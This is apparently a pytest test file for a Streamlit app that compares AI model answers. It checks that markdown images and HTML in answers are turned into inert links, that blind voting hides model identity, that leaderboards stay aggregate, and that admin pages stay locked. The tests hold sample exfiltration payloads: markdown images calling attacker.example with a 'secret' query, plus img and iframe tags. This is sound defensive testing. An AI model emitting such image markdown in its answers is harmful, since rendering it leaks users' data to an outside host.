"""What answers may make a viewer's browser do, and what blind mode and the leaderboard show:
an answer's remote image is a link, never loaded; a blind column shows nothing that identifies
its model until the vote; in team mode the leaderboard is aggregate only; estimates are cached;
a non-admin's session state opens no admin data."""
from __future__ import annotations

import re

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from core.store import open_store
from tests.app_pages.test_compare import PAGE, RUN_TIMEOUT, page, send  # noqa: F401 (fixture)
from tests.core.test_identity import AUTH
from tests.emulated import KEYS, PROVIDER_MODELS, write_config
from tests.fakes.script import Reply
from tests.paths import PAGES
from ui.components.safe_answer import defuse

TRAP = "Here you go ![](https://attacker.example/?q=secret) and ![chart][c]\n\n[c]: https://attacker.example/c.png"


@pytest.mark.parametrize("text, shown", [
    ("![](https://attacker.example/?q=secret)", "🖼 [image](https://attacker.example/?q=secret)"),
    ('![logo](http://x.example/a.png "t")', '🖼 [logo](http://x.example/a.png "t")'),
    ("![ref][r]\n\n[r]: http://x.example/p.png", "🖼 [ref][r]\n\n[r]: http://x.example/p.png"),
    ('<img src="http://x.example/p.png">', '&lt;img src="http://x.example/p.png">'),
    ("<iframe src=http://x.example>", "&lt;iframe src=http://x.example>"),
    ("`![a](b)` stays code", "`![a](b)` stays code"),
    ("```md\n![a](http://x.example/c.png)\n```", "```md\n![a](http://x.example/c.png)\n```"),
    ("1 < 2 and [a link](http://x.example) stay", "1 < 2 and [a link](http://x.example) stay"),
])
def test_markdown_that_would_load_something_becomes_a_link(text, shown):
    assert defuse(text) == shown


def loads_something(markdown: str) -> bool:
    """Whether Markdown, once rendered, would load a resource by itself (an image, or HTML)."""
    prose = re.sub(r"```.*?```|`[^`]*`", "", markdown, flags=re.DOTALL)
    return bool(re.search(r"(?<!\\)!\[[^\]]*\]|<(img|iframe|video|audio|object|embed)", prose))


def test_a_compared_answer_shows_its_images_as_links(page, emulator):  # noqa: F811
    emulator.enqueue(PROVIDER_MODELS["claude"], Reply(text=TRAP))
    at = send(page(), "draw me something")
    rendered = [m.value for m in at.markdown]
    assert not [m for m in rendered if loads_something(m)]
    assert any("🖼 [image](https://attacker.example/?q=secret)" in m for m in rendered)


def test_a_chat_answer_shows_its_images_as_links(emulator, tmp_path, monkeypatch):
    config = write_config(emulator, tmp_path / "parley.yaml", models=("claude",))
    monkeypatch.setenv("PARLEY_CONFIG", str(config))
    monkeypatch.setenv("ANTHROPIC_API_KEY", KEYS["claude"])
    emulator.enqueue(PROVIDER_MODELS["claude"], Reply(text=TRAP))
    st.cache_resource.clear()
    at = AppTest.from_file(str(PAGES / "chat.py"), default_timeout=RUN_TIMEOUT).run()
    at.chat_input[0].set_value("![](https://attacker.example/mine)").run()
    rendered = [m.value for m in at.markdown]
    assert not [m for m in rendered if loads_something(m)]
    assert any("🖼 [image](https://attacker.example/?q=secret)" in m for m in rendered)
    st.cache_resource.clear()


IDENTIFYING = re.compile(r"\$|local|price unknown|tokens|\bms\b|fallback|claude|gemini", re.I)


def test_blind_mode_shows_nothing_that_identifies_a_column_until_the_vote(page, emulator):  # noqa: F811
    emulator.enqueue(PROVIDER_MODELS["claude"], Reply(text="same words", input_tokens=7))
    emulator.enqueue(PROVIDER_MODELS["gemini"], Reply(text="same words", input_tokens=900))
    at = page()
    at.toggle(key="cmp_blind").set_value(True).run()
    at = send(at, "which is better")
    # the lines under the settings buttons say the setup chosen, in column order, not the answers' order
    answer_captions = [c.value for c in at.caption if "Estimated cost" not in c.value
                       and not c.value.startswith("t=")]
    assert answer_captions, "each answer has its line"
    assert not [c for c in answer_captions if IDENTIFYING.search(c)], answer_captions
    assert not at.get("badge")
    at.button(key="cmp_vote_A").click().run()
    revealed = " ".join(c.value for c in at.caption)
    assert "tokens" in revealed and "$" in revealed  # after the vote, the figures are shown


def test_team_leaderboard_is_aggregate_only(page, monkeypatch, tmp_path):  # noqa: F811
    at = page()  # creates the store; alice then votes in it
    store = open_store(f"sqlite:///{tmp_path / 'parley.db'}")
    store.record_vote({"user_id": "alice@example.com", "models": ["claude", "gemini"],
                       "winner": "claude", "prompt": "alice's confidential merger plan"})
    store.save_comparison({"id": "c-alice", "user_id": "alice@example.com",
                           "title": "alice's confidential merger plan",
                           "data": {"columns": [], "turns": []}})
    store.close()
    at = AppTest.from_file(PAGE, default_timeout=RUN_TIMEOUT)
    at.secrets["auth"] = dict(AUTH)
    at.user = {"is_logged_in": True, "email": "bob@example.com", "email_verified": True}
    at.run()
    table = at.table[0].value
    assert sorted(table.index) == ["claude", "gemini"] and list(table["Votes"]) == [1, 1]
    assert list(table.columns) == ["Win rate", "Votes", "Wins", "Ties", "Losses", "Both bad",
                                   "Avg cost / answer", "Wins per $", "Avg time"]
    everything = " ".join(str(e.value) for e in at.main if hasattr(e, "value"))
    everything += " ".join(str(o) for s in at.selectbox for o in s.options)
    assert "alice" not in everything and "merger" not in everything


def test_typing_a_prompt_counts_no_tokens_on_the_page(page, monkeypatch):  # noqa: F811
    """The compare page's estimate is a ceiling from each column's max tokens, so neither
    typing a long prompt nor re-running the page tokenizes anything on the shared loop."""
    import core.service

    counted = []
    real = core.service.count_tokens
    monkeypatch.setattr(core.service, "count_tokens",
                        lambda model, messages: counted.append(model) or real(model, messages))
    at = page()
    at.text_area(key="cmp_prompt").input("estimate me " * 50_000).run()
    assert "Most an answer can cost" in " ".join(c.value for c in at.caption)
    at.toggle(key="cmp_same").set_value(True).run()  # a rerun with the same prompt and models
    at.radio(key="cmp_count").set_value(2).run()
    assert counted == []


@pytest.mark.parametrize("state", [
    {"costs_users": ["alice@example.com"], "costs_days": None},
    {"parley_user": "admin@example.com", "parley_role": "admin", "is_admin": True},
])
def test_a_users_session_state_opens_no_admin_data(emulator, tmp_path, monkeypatch, state):
    from ui.deps import parts

    config = write_config(emulator, tmp_path / "parley.yaml", parley={"admins": ["admin@example.com"]})
    monkeypatch.setenv("PARLEY_CONFIG", str(config))
    parts.clear()
    at = AppTest.from_file(str(PAGES.parent / "app.py"), default_timeout=RUN_TIMEOUT)
    at.secrets["auth"] = dict(AUTH)
    at.user = {"is_logged_in": True, "email": "bob@example.com", "email_verified": True}
    for key, value in state.items():
        at.session_state[key] = value
    at.run()
    at.switch_page("app_pages/costs.py").run()
    assert [t.value for t in at.title] == ["Admins only"]
    assert not at.metric and not at.get("plotly_chart")
    parts.clear()
